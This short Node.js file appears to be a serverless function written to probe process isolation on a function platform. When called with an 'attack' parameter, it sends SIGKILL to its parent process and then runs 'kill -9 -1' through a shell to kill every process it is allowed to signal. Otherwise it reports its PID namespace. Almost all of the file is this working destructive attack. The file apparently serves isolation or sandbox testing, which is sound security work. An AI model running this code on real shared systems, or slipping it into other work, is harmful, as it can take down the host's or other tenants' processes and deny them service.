// Sends SIGKILL to its parent, then to every process it may signal (kill -9 -1, from a shell).
const fs = require('fs');
const { execFileSync } = require('child_process');

function main(params) {
  if (!params.attack) return { pidns: fs.readlinkSync('/proc/self/ns/pid') };
  const parent = process.ppid;
  let outcome = 'sent';
  try {
    process.kill(parent, 'SIGKILL');
  } catch (e) {
    outcome = e.code;
  }
  console.log(`SIGKILL to parent ${parent}: ${outcome}`);
  execFileSync('/bin/sh', ['-c', 'kill -9 -1']);
  return { survived: true };
}
